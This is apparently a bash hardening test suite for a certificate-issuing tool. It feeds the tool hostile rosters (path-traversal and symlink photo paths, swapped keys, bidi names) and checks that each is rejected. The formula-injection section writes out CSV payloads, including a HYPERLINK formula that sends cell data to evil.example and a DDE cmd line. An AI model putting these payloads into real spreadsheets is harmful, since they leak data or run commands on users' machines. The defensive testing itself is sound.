#!/usr/bin/env bash
# hardening.sh - what a hostile roster, a careless operator and a hostile
# file system could do, each checked end to end (issue 9's list).
source "$(dirname "$0")/lib/common.bash"
D=$T/reg
Y=$(date +%y)
FAULT=$SKILLCERT_BUILD/tests/fault.so
# The fault library is preloaded ahead of ASan's runtime in sanitizer builds.
export ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}verify_asan_link_order=0
make_registry "$D" >/dev/null
cp -r "$DATA" "$T/data"
umask 022

# --- files holding personal data are the owner's alone -------------------
printf '姓名,证件类型,证件号码,职业,等级,评价方式,考核日期\n张三,居民身份证,%s,养老护理员,5,过程化考核,2024-04-01\n李四,居民身份证,11010519491231002Y,养老护理员,5,过程化考核,2024-04-01\n' "$(id_number 1)" > "$T/p.csv"
expect_rc "partial issue" 0 $SC issue --db "$D" --org S000036000001 --roster "$T/p.csv" --partial --pdf "$T/pdf" --quiet
check "rejects file is 0600" test "$(stat -c %a "$T/p.csv.rejects.csv")" = 600
check "PDF is 0600" test "$(stat -c %a "$T/pdf/S000036000001${Y}5000001.pdf")" = 600
check "PDF folder is 0700" test "$(stat -c %a "$T/pdf")" = 700
expect_rc "render --mode 640" 0 $SC render --db "$D" --out "$T/pdf" --mode 640 --all --quiet
check "--mode is honoured" test "$(stat -c %a "$T/pdf/S000036000001${Y}5000001.pdf")" = 640
expect_rc "a --mode without the owner's read bit is refused" 64 $SC render --db "$D" --out "$T/pdf" --mode 044 --all

# --- an error is said once --------------------------------------------------
expect_rc "issue from a missing roster" 66 $SC issue --db "$D" --org S000036000001 --roster "$T/none.csv"
check "said once" test "$(grep -c 'cannot read roster' "$T/err")" = 1
expect_rc "the same under --json" 66 $SC issue --db "$D" --org S000036000001 --roster "$T/none.csv" --json
check "one JSON document" test "$(grep -c '"error"' "$T/out")" = 1

# --- trust export: standard output when redirected ---------------------------
$SC trust export --db "$D" > "$T/stdout.bundle" 2>"$T/err"
check "bundle on standard output" test "$(head -c 4 "$T/stdout.bundle")" = SCTB
check "nothing else on it" bash -c "! grep -qa 'written to' '$T/stdout.bundle'"
check "no file left in the registry folder" test ! -e "$D/trust.bundle"
expect_rc "that bundle verifies a certificate" 0 $SC verify --trust "$T/stdout.bundle" "$($SC token --db "$D" S000036000001${Y}5000001)"
expect_rc "--json without --out is refused" 64 $SC trust export --db "$D" --json

# --- verify: a photo with no QR, a text file naming itself --------------------
python3 -c "import zlib,struct,sys
def c(t,d): return struct.pack('>I',len(d))+t+d+struct.pack('>I',zlib.crc32(t+d))
sys.stdout.buffer.write(b'\x89PNG\r\n\x1a\n'+c(b'IHDR',struct.pack('>IIBBBBB',64,64,8,0,0,0,0))+c(b'IDAT',zlib.compress(b'\x00'+b'\xff'*64*64))+c(b'IEND',b''))" > "$T/blank.png"
expect_rc "a photo with no readable QR: cannot tell (3)" 3 $SC verify --trust "$T/stdout.bundle" "$T/blank.png"
echo "$T/self.txt" > "$T/self.txt"
expect_rc "a text file naming itself: invalid, no crash" 1 $SC verify --trust "$T/stdout.bundle" "$T/self.txt"

# --- render ends when no worker can read the registry ------------------------
expect_rc "render with every reader failing ends (75)" 75 env SKILLCERT_FAULT=reader LD_PRELOAD="$FAULT" timeout 30 $SC render --db "$D" --out "$T/pdf3" --all --jobs 2
check "says how many were not rendered" contains "$T/err" "not rendered"
expect_rc "a map resized under the render threads: an error, no mapsize call from a thread" 75 env SKILLCERT_FAULT=resized LD_PRELOAD="$FAULT" timeout 30 $SC render --db "$D" --out "$T/pdf5" --all --jobs 2
check "says to run it again" contains "$T/err" "run this again"
expect_rc "render with no thread renders on the main one" 0 env SKILLCERT_FAULT=thread LD_PRELOAD="$FAULT" timeout 30 $SC render --db "$D" --out "$T/pdf4" --all --quiet
check "and wrote the PDF" test -s "$T/pdf4/S000036000001${Y}5000001.pdf"
# --- 1. a roster publishes only photos from its own folder -------------------
mkdir -p "$T/outside" "$T/r1/photos"
cp "$DATA/photos/p3.png" "$T/outside/secret.png"
cp "$DATA/photos/p1.jpg" "$T/r1/photos/ok.jpg"
ln -s ../outside/secret.png "$T/r1/link.png"
ln -s "$T/outside" "$T/r1/photos/out"
mkfifo "$T/r1/fifo.png"
hdr='姓名,证件类型,证件号码,职业,等级,评价方式,考核日期,照片'
row() { printf '%s,居民身份证,%s,养老护理员,5,过程化考核,2024-04-01,%s\n' "$1" "$(id_number "$2")" "$3"; }
{ echo "$hdr"
  row 甲一 101 "$T/outside/secret.png"
  row 乙二 102 "../outside/secret.png"
  row 丙三 103 "link.png"
  row 丁四 104 "photos/out/secret.png"
  row 戊五 105 "fifo.png"
  row 己六 106 "none.png"
  row 庚七 107 "photos/../../outside/secret.png"
  row 辛八 108 "photos/ok.jpg"
} > "$T/r1/roster.csv"
expect_rc "hostile photo paths: rejected, none read (FIFO does not hang)" 0 timeout 30 $SC issue --db "$D" --org S000036000001 --roster "$T/r1/roster.csv" --partial --json
check "7 refused" contains "$T/out" '"rejected":7'
check "the photo inside the folder is taken" contains "$T/out" '"issued":1'
n=$(grep -o '"error":"照片: [^"]*"' "$T/out" | sed "s/'[^']*'//" | sort -u | wc -l)
check "one error text for every refusal (exists or not, link or FIFO)" test "$n" = 1
check "names the rule" contains "$T/out" "is not a photo file inside the roster's folder"
check "secret never stored" bash -c "! $SC list --db '$D' --json | grep -q secret"
{ echo "$hdr"; row 壬九 109 "secret.png"; } > "$T/r1/r2.csv"
expect_rc "--photos DIR names the folder instead" 0 $SC issue --db "$D" --org S000036000001 --roster "$T/r1/r2.csv" --photos "$T/outside" --quiet
# --- 2. no spreadsheet formula in what we write or store --------------------
{ echo '姓名,证件类型,证件号码,职业,等级,评价方式,考核日期,工作单位'
  echo '"=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")",居民身份证,'"$(id_number 201)"',养老护理员,5,过程化考核,2024-04-01,'
  echo "+cmd|' /C calc'!A0,居民身份证,$(id_number 202),养老护理员,5,过程化考核,2024-04-01,"
  echo "@SUM(A1),居民身份证,$(id_number 203),养老护理员,5,过程化考核,2024-04-01,"
  echo "张三,居民身份证,$(id_number 204),养老护理员,5,过程化考核,2024-04-01,\"=HYPERLINK(\"\"http://evil.example\"\")\""
  printf '李四,居民身份证,%s,养老护理员,5,过程化考核,2024-04-01,"\t=1+2"\n' "$(id_number 205)"
  echo "王五,居民身份证,$(id_number 206),养老护理员,5,过程化考核,2024-04-01,-2+3"
  echo "赵六,居民身份证,$(id_number 207),养老护理员,5,过程化考核,2024-04-01,南昌市颐康养老院"
} > "$T/f.csv"
expect_rc "formula rows: the good one issues" 0 $SC issue --db "$D" --org S000036000001 --roster "$T/f.csv" --partial --json
check "six rejected" contains "$T/out" '"rejected":6'
check "employer formula refused with a reason" contains "$T/out" "spreadsheet runs as a formula"
check "no rejects cell starts a formula" python3 -c "
import csv,sys
rows=list(csv.reader(open('$T/f.csv.rejects.csv',encoding='utf-8-sig')))
bad=[c for r in rows for c in r if c[:1] in '=+-@\t\r']
hooks=[c for r in rows for c in r if c.startswith(\"'=\") or c.startswith(\"'+\") or c.startswith(\"'@\")]
sys.exit(1 if bad or len(hooks) < 3 else 0)"
# --- 4. the key file must hold the organization's registered key ------------
K=$T/keyswap
make_registry "$K" >/dev/null
$SC org add --db "$K" --code S000036000002 --name 另一机构 --scope 养老护理员:5-1 --valid-from 2023-01-01 --valid-to 2030-12-31 --quiet
ka=$(ls "$K"/keys/orgs/S000036000001-*.key); kb=$(ls "$K"/keys/orgs/S000036000002-*.key)
cp "$ka" "$T/ka.saved"; cp "$kb" "$ka"
{ echo '姓名,证件类型,证件号码,职业,等级,评价方式,考核日期'; echo "周七,居民身份证,$(id_number 301),养老护理员,5,过程化考核,2024-04-01"; } > "$T/k.csv"
expect_rc "a swapped key file is refused (77)" 77 $SC issue --db "$K" --org S000036000001 --roster "$T/k.csv"
check "says whose key it holds" contains "$T/err" "registered key"
expect_rc "nothing was issued" 0 $SC list --db "$K" --org S000036000001 --json
check "zero certificates" test "$(cat "$T/out")" = "[]"
cp "$T/ka.saved" "$ka"
expect_rc "the right key file issues" 0 $SC issue --db "$K" --org S000036000001 --roster "$T/k.csv" --quiet
expect_rc "and the log audits clean" 0 $SC log audit --db "$K"
# --- 8. one document number, one person --------------------------------------
H='姓名,证件类型,证件号码,职业,等级,评价方式,考核日期'
{ echo "$H"; echo "张晓华,居民身份证,$(id_number 401),养老护理员,5,过程化考核,2024-04-01"; } > "$T/n1.csv"
expect_rc "issue to 张晓华" 0 $SC issue --db "$D" --org S000036000001 --roster "$T/n1.csv" --quiet
{ echo "$H"; echo "李鬼,居民身份证,$(id_number 401),育婴员,5,过程化考核,2024-04-01"; } > "$T/n2.csv"
expect_rc "李鬼 with 张晓华's number is refused" 1 $SC issue --db "$D" --org S000036000001 --roster "$T/n2.csv"
check "names the holder and the certificate" contains "$T/err" "already belongs to 张晓华 (S000036000001${Y}5"
expect_rc "the authority overrides with a reason" 0 $SC issue --db "$D" --org S000036000001 --roster "$T/n2.csv" --name-change "更名：户籍证明 2024-05-01" --batch rename --json
cn=$(grep -o '"certno":"[^"]*"' "$T/out" | head -1 | cut -d'"' -f4)
expect_rc "show the overridden certificate" 0 $SC show --db "$D" "$cn" --json
check "the reason is recorded" contains "$T/out" "更名：户籍证明 2024-05-01"
{ echo "$H"; echo "王芳,居民身份证,$(id_number 402),养老护理员,5,过程化考核,2024-04-01"
  echo "王方,居民身份证,$(id_number 402),育婴员,5,过程化考核,2024-04-01"; } > "$T/n3.csv"
expect_rc "two names for one number in one roster" 1 $SC issue --db "$D" --org S000036000001 --roster "$T/n3.csv"
check "names the other line" contains "$T/err" "is on line 2 too, with the name 王芳"
# --- 12. issue ends when no signing thread starts ---------------------------
{ echo "$H"; echo "钱八,居民身份证,$(id_number 501),养老护理员,5,过程化考核,2024-04-01"; } > "$T/t.csv"
expect_rc "issue with no thread ends (71), nothing issued" 71 env SKILLCERT_FAULT=thread LD_PRELOAD="$FAULT" timeout 30 $SC issue --db "$D" --org S000036000001 --roster "$T/t.csv"
check "says why" contains "$T/err" "no signing thread could start"
expect_rc "the same roster then issues" 0 $SC issue --db "$D" --org S000036000001 --roster "$T/t.csv" --quiet
# --- 10. names as foreign documents print them --------------------------------
{ echo "$H"
  echo "O'Brien,护照,E12345671,养老护理员,5,过程化考核,2024-04-01"
  echo "Jean-Pierre Martin,外国人永久居留身份证,USA110079010101,养老护理员,5,过程化考核,2024-04-01"
  echo "J. R. Smith,护照,E12345672,养老护理员,5,过程化考核,2024-04-01"
  echo "O'Neil,居民身份证,$(id_number 601),养老护理员,5,过程化考核,2024-04-01"
  echo "'Brien,护照,E12345673,养老护理员,5,过程化考核,2024-04-01"
  echo "-Smith,护照,E12345674,养老护理员,5,过程化考核,2024-04-01"
  printf 'Ann\xe2\x80\x8bLee,护照,E12345675,养老护理员,5,过程化考核,2024-04-01\n'
  printf 'Ann\xe2\x80\xaeLee,护照,E12345676,养老护理员,5,过程化考核,2024-04-01\n'
  echo "Smith..,护照,E12345677,养老护理员,5,过程化考核,2024-04-01"
} > "$T/names.csv"
expect_rc "foreign names" 0 $SC issue --db "$D" --org S000036000001 --roster "$T/names.csv" --partial --json
check "O'Brien, Jean-Pierre Martin and J. R. Smith issue" contains "$T/out" '"issued":3'
check "six refused" contains "$T/out" '"rejected":6'
check "not on a 居民身份证" bash -c "grep -o '\"line\":5,\"status\":\"rejected\"' '$T/out'"
check "zero-width and bidi refused" bash -c "grep -q '\"line\":8,\"status\":\"rejected\"' '$T/out' && grep -q '\"line\":9,\"status\":\"rejected\"' '$T/out'"
finish
